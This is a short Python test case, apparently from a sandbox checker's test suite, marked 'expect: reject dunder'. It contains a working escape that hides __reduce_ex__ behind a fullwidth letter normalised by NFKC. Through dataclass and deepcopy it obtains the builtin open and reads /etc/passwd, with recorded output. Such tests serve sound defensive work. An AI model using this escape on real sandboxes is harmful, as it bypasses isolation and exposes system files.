# expect: reject dunder
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: the bare annotation's name is spelt with a fullwidth letter (NFKC makes it
#   __reduce_ex__); @dataclass makes it a field stored on each instance; deepcopy calls it.
# Goal reached: open as a value; read /etc/passwd.
# Output seen under python3 (3.11.7), in a throw-away temp dir:
#   <built-in function open>
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbi
import copy
import dataclasses
import typing


def red(proto):
    return (typing.List.copy_with, (("open",),), {"_name": "__builtins__"})


# NFKC: the annotation's name is spelt with a fullwidth letter; Python reads
# __reduce_ex__
@dataclasses.dataclass
class K:
    __ｒeduce_ex__: object


opener = copy.deepcopy(copy.deepcopy(K(red)))
print(opener)
print(opener("/etc/passwd").read()[:60])
